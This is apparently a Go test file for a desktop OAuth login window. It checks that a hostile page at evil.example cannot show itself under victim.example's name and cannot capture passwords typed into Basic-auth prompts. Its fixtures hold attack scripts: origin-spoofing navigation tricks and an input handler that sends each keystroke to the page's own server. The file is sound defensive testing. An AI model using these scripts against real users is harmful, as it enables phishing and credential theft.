//go:build cgo && !gnustep

package loginwindow_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"wails-openid-oauth/auth/loginwindow/internal/gtkloop"
)

const (
	evilPage   = "title: evil.example — Log in\nhttps://evil.example\nCancel\n[page]\n"
	victimAsks = "“victim.example” asks for your password"
)

// newForgery is a log-in at evil.example, whose page runs the script. victim.example has a page that never arrives, one
// without content, and one behind a password.
func newForgery(t *testing.T, script string) *bench {
	t.Helper()
	b := newBench(t)
	b.origin = "https://evil.example"
	b.page("evil.example/login", `<input autofocus oninput="fetch('/typed?' + this.value)">
		<script>
			function later(f) { setTimeout(() => { f(); document.title = 'end' }, 1000) }
			function frame(src) { setTimeout(() => document.body.innerHTML = '<iframe src="' + src + '"></iframe>', 500); later(() => 0) }
			onload = () => setTimeout(() => { `+script+` })
		</script>`)
	b.handle("evil.example/to/{page}", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://victim.example/"+r.PathValue("page"), http.StatusFound)
	})
	never := make(chan bool)
	b.Cleanup(func() { close(never) })
	b.handle("victim.example/never", func(http.ResponseWriter, *http.Request) { <-never })
	b.handle("victim.example/empty", func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) })
	b.handle("victim.example/secret", behindPassword("secret of the victim"))
	b.handle("evil.example/secret", behindPassword("secret of the page"))
	return b
}

func behindPassword(text string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if user, password, _ := r.BasicAuth(); user != "ann" || password != "pw" {
			w.Header().Set("WWW-Authenticate", `Basic realm="the realm is free text"`)
			w.WriteHeader(http.StatusUnauthorized)
		}
		fmt.Fprint(w, text)
	}
}

// watch looks at the windows until the returned function is called. No page of the victim is loaded meanwhile, so that
// function fails the test if any page was seen under the victim's name.
func (b *bench) watch() func() { return b.watchFor("victim.example") }

func (b *bench) watchFor(victim string) func() {
	stop, done := make(chan bool), make(chan string, 1)
	go func() {
		forged := ""
		for {
			select {
			case <-stop:
				done <- forged
				return
			default:
			}
			if seen := gtkloop.Seen(); strings.Contains(seen, "[page]") && strings.Contains(seen, victim) {
				forged = seen
			}
			time.Sleep(4 * time.Millisecond) // a quarter of the time of a frame; meanwhile the main loop can work
		}
	}()
	return func() {
		b.Helper()
		close(stop)
		if forged := <-done; forged != "" {
			b.Errorf("a page of another site was seen as:\n%s", forged)
		}
	}
}

// sees waits until the windows show exactly, or contain, the text.
func (b *bench) sees(text string) {
	b.Helper()
	last := ""
	b.eventually("sight of "+text, func() bool {
		seen := gtkloop.Seen()
		if seen != last {
			last = seen
			fmt.Fprintf(b.log, "seen: %q\n", seen)
		}
		return strings.Contains(seen, text)
	})
}

// enter types into what has the focus, and presses Return.
func (b *bench) enter(text string) {
	b.Helper()
	b.xdotool("type", text)
	b.xdotool("key", "Return")
}

func (b *bench) seesNoPage() {
	b.Helper()
	if seen := gtkloop.Seen(); strings.Contains(seen, "[page]") {
		b.Errorf("the page is not covered:\n%s", seen)
	}
}

// start opens the log-in, and returns a function that ends it.
func (b *bench) start() func() {
	ctx, cancel := context.WithCancel(b.Context())
	done := b.open(ctx, "/login", false)
	return func() {
		b.Helper()
		cancel()
		if got := receive(b, "result", done); !errors.Is(got.err, context.Canceled) {
			b.Errorf("Open: %v", got.err)
		}
	}
}

// A page navigates to a URL from which no document arrives, and stays alive. It must not be seen under that URL's name.
func TestNoPageIsSeenUnderAnothersName(t *testing.T) {
	for name, script := range map[string]string{
		"redirect, stop":                       `location = '/to/never'; later(() => stop())`,
		"straight, stop":                       `location = 'https://victim.example/never'; later(() => stop())`,
		"redirect, no content":                 `location = '/to/empty'; later(() => 0)`,
		"redirect, stays":                      `location = '/to/never'; later(() => 0)`,
		"redirect, blank":                      `location = '/to/never'; later(() => { location = 'about:blank'; fetch('/gone', {keepalive: true}) })`,
		"redirect, write":                      `location = '/to/never'; later(() => { document.open(); document.write('<title>x</title>'); document.close() })`,
		"redirect, push state":                 `location = '/to/never'; later(() => history.pushState(0, '', '/victim'))`,
		"redirect, new load":                   `location = '/to/never'; later(() => { const end = () => location = '/end'; end(); setInterval(end, 5000) })`, // WebKit sometimes drops a navigation
		"redirect, alert":                      `location = '/to/never'; later(() => setTimeout(() => alert('victim'), 500))`,
		"frame behind password":                `frame('https://victim.example/secret')`,
		"image behind password":                `later(() => document.body.innerHTML = '<img src="https://victim.example/secret">')`,
		"fetch behind password":                `fetch('https://victim.example/secret', {credentials: 'include', mode: 'no-cors'}); later(() => 0)`,
		"frame, then the same host":            `location = 'https://victim.example/never'; frame('https://victim.example/secret')`,
		"redirected frame, then the same host": `location = 'https://victim.example/never'; frame('/to/secret')`,
	} {
		t.Run(name, func(t *testing.T) {
			b := newForgery(t, script)
			b.page("evil.example/end", "<script>document.title = 'end'</script>")
			gone := b.signal("evil.example/gone")
			watched := b.watch()
			stop := b.start()
			if strings.Contains(name, "blank") {
				receive(b, "end of the document", gone)
				b.sees("title: about:blank — Log in\nabout:blank\nCancel\n[page]\n\n")
			} else {
				b.sees(evilPage + "end\n")
			}
			watched()
			stop()
		})
	}
}

// A host asks for a password while the window still shows another page. The form covers that page and names the host. If
// the page withdraws the question, it receives nothing of what the user still types.
func TestPasswordFormCoversThePage(t *testing.T) {
	for name, script := range map[string]string{
		"redirect": "location = '/to/secret'",
		"straight": "location = 'https://victim.example/secret'",
	} {
		t.Run(name, func(t *testing.T) {
			b := newForgery(t, script+"; document.onvisibilitychange = () => setTimeout(() => stop(), 2000)")
			typed := b.signal("evil.example/typed")
			watched := b.watch()
			end := b.start()
			b.sees(victimAsks)
			b.seesNoPage()
			b.picture("password-" + name)
			b.onWindow("windowfocus", "--sync")
			b.xdotool("type", "ann")
			b.sees("The password is not asked for any more")
			b.seesNoPage()
			b.picture("withdrawn")
			b.enter("pass word")
			b.seesNoPage()
			b.xdotool("key", "alt+o")
			b.sees(evilPage)
			watched()
			if len(typed) != 0 {
				t.Errorf("the page got %q", <-typed)
			}
			end()
		})
	}
}

// The user cancels the form, or answers it.
func TestPasswordFormAsTheUserSeesIt(t *testing.T) {
	const toVictim = "location = 'https://victim.example/secret'"
	// answer answers the question of the page's own host, and waits for what the page does then.
	answer := func(b *bench, answered <-chan string) {
		b.Helper()
		b.sees("“evil.example” asks for your password")
		b.seesNoPage()
		b.onWindow("windowfocus", "--sync")
		b.enter("ann\tpw")
		receive(b, "answer", answered)
		b.sees(evilPage)
	}
	t.Run("Escape brings the page back", func(t *testing.T) {
		b := newForgery(t, toVictim)
		end := b.start()
		b.sees(victimAsks)
		b.key("Escape")
		b.sees(evilPage)
		end()
	})
	t.Run("answered", func(t *testing.T) {
		b := newForgery(t, toVictim)
		end := b.start()
		b.sees(victimAsks)
		b.onWindow("windowfocus", "--sync")
		b.enter("ann\twrong")
		b.sees("The name or the password was not right")
		b.seesNoPage()
		b.picture("password-again")
		b.enter("pw") // the name is still there
		b.sees("title: victim.example — Log in\nhttps://victim.example\nCancel\n[page]\n")
		if got := gtkloop.Typed(); strings.Contains(got, "pw") {
			t.Errorf("the form still has %q", got)
		}
		end()
	})
	t.Run("what was typed goes with the question", func(t *testing.T) {
		b := newForgery(t, "onkeydown = () => "+toVictim+"; "+toVictim)
		end := b.start()
		b.sees(victimAsks)
		b.onWindow("windowfocus", "--sync")
		b.xdotool("type", "ann\tpw")
		b.eventually("password in the form", func() bool { return strings.Contains(gtkloop.Typed(), "pw") })
		b.key("Escape")
		b.sees(evilPage)
		b.key("x")
		b.sees(victimAsks)
		if got := gtkloop.Typed(); strings.Contains(got, "ann") || strings.Contains(got, "pw") {
			t.Errorf("the form still has %q", got)
		}
		end()
	})
	t.Run("of the page's own host", func(t *testing.T) {
		b := newForgery(t, "fetch('/secret').then(() => fetch('/end'))")
		answered := b.signal("evil.example/end")
		end := b.start()
		answer(b, answered)
		end()
	})
	// The page and its question come from two processes. The window hears of both at the same time, and has shown neither.
	t.Run("of a page that is not shown yet", func(t *testing.T) {
		b := newForgery(t, "fetch('/secret').then(() => fetch('/end')); setTimeout(() => fetch('/asked'), 500)")
		asked, answered := b.signal("evil.example/asked"), b.signal("evil.example/end")
		release := sync.OnceFunc(gtkloop.HoldAfterResponse())
		defer release()
		end := b.start()
		receive(b, "question", asked)
		release()
		answer(b, answered)
		end()
	})
	// early opens a page that goes on with script at a click, and clicks. Word of the next load comes late.
	early := func(t *testing.T, script string, noticed func(*bench) bool) (b *bench, end func()) {
		b = newForgery(t, "onclick = () => { "+script+" }; document.title = 'ready'")
		end = b.start()
		b.sees(evilPage + "ready\n")
		b.eventually("end of the veil", func() bool { return !strings.Contains(gtkloop.Seen(), "[veil]") })
		gtkloop.DelayLoad(400 * time.Millisecond)
		b.clickUntil("effect of the click", func() bool { return noticed(b) })
		return b, end
	}
	asks := func() bool { return strings.Contains(gtkloop.Seen(), victimAsks) }
	t.Run("before word of the load", func(t *testing.T) {
		_, end := early(t, toVictim, func(*bench) bool { return asks() })
		end()
	})
	t.Run("before word of a load that stops", func(t *testing.T) {
		_, end := early(t, "onclick = null; "+toVictim+"; setTimeout(stop, 200); setTimeout(() => document.title = 'end', 1000)", func(b *bench) bool {
			if asks() {
				t.Error("a load that has stopped asks")
			}
			return strings.Contains(gtkloop.Seen(), evilPage+"end\n")
		})
		end()
	})
	t.Run("before word of the first load, which ends it", func(t *testing.T) {
		b := newForgery(t, "")
		b.origin = "https://victim.example"
		b.handle("victim.example/login", behindPassword("welcome"))
		gtkloop.CancelChallenge()
		end := b.start()
		b.sees(victimAsks)
		b.enter("ann\tpw")
		b.sees("title: victim.example — Log in\nhttps://victim.example\nCancel\n[page]\n")
		end()
	})
	t.Run("of a frame", func(t *testing.T) {
		b := newForgery(t, "const f = document.createElement('iframe'); f.onload = () => fetch('/framed'); f.src = 'https://victim.example/secret'; document.body.append(f)")
		framed := b.signal("evil.example/framed")
		end := b.start()
		receive(b, "answer without a password", framed)
		end()
	})
	t.Run("before any page", func(t *testing.T) {
		b := newForgery(t, "")
		b.origin = "https://victim.example"
		ask, ann := behindPassword("welcome"), make(chan bool, 9)
		b.handle("victim.example/login", func(w http.ResponseWriter, r *http.Request) {
			if user, _, _ := r.BasicAuth(); user == "ann" {
				ann <- true
			}
			ask(w, r)
		})
		end := b.start()
		b.sees(victimAsks)
		b.onWindow("windowfocus", "--sync")
		b.xdotool("type", "\told") // what the user takes back is not in the next form
		b.key("Escape")
		b.sees("“victim.example” was not opened")
		b.xdotool("key", "Return") // "Try again"
		b.sees(victimAsks)
		b.xdotool("keydown", "Return", "sleep", "0.5", "keyup", "Return") // held down by accident
		b.enter("ann\tpw")
		b.sees("title: victim.example — Log in\nhttps://victim.example\nCancel\n[page]\n")
		receive(b, "answer of Ann", ann)
		end()
	})
	t.Run("asked too often", func(t *testing.T) {
		b := newForgery(t, "onclick = () => "+toVictim+"; "+toVictim)
		end := b.start()
		refused := func() bool { return strings.Contains(b.log.String(), "password forms") }
		b.sees(victimAsks)
		// On a busy machine a click may be repeated before its form is there, and uses up two forms.
		for forms := 0; !refused(); forms++ {
			if forms > 5 {
				t.Fatal("a sixth form was shown")
			}
			b.clickUntil("password form, or its refusal", func() bool { return asks() || refused() })
			if asks() {
				b.key("Escape")
				b.sees(evilPage)
			}
		}
		end()
	})
}
